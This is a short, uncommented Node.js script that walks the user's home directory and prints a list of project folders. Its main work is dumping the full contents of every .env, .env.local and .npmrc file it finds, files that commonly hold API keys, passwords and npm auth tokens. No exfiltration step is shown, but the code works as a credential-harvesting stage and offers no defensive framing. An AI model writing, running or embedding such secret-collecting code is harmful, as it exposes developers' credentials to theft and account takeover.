const fs = require('fs');
const path = require('path');
const os = require('os');

const out = { projects: [], settings: {} };
function walk(dir, depth) {
  if (depth > 5) return;
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory() && e.name !== 'node_modules') { try { walk(p, depth + 1); } catch {} }
    else if (['.env', '.env.local', '.npmrc'].includes(e.name)) {
      out.settings[p] = fs.readFileSync(p, 'utf8');
    } else if (e.name === 'package.json') out.projects.push(dir);
  }
}
walk(os.homedir(), 0);
console.log(JSON.stringify(out));
